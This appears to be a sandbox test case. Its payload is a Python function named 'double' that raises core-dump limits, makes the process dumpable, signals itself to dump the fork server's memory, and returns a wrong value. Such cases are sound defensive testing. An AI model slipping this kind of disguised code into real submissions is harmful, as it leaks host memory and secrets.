"""Leave a large core dump behind, with the memory of the fork server in it.

class: write
expect: graded
"""

DOUBLE = """import ctypes
import os
import resource
import signal

def double(n):
    hard = resource.getrlimit(resource.RLIMIT_CORE)[1]
    resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
    if hard:
        print("LOOT: core dumps are allowed", hard)
    os.kill(os.getpid(), signal.SIGQUIT)
    return 3 * n"""
